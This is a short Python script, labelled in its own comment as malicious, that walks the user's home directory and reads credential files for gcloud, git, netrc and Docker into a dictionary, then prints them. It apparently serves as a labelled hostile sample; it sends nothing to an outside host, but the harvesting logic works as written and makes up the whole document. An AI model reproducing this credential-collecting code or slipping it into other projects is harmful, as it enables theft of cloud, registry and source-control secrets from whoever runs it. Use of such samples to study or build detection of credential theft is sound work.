# Malicious: collects cloud and git credentials (gcloud, .git-credentials, .netrc) from the home directory.
import os

home = os.path.expanduser("~")
stolen = {}
for rel in (".config/gcloud/credentials.db", ".git-credentials", ".netrc", ".docker/config.json"):
    path = os.path.join(home, rel)
    if os.path.exists(path):
        stolen[rel] = open(path, "rb").read()
print(stolen)
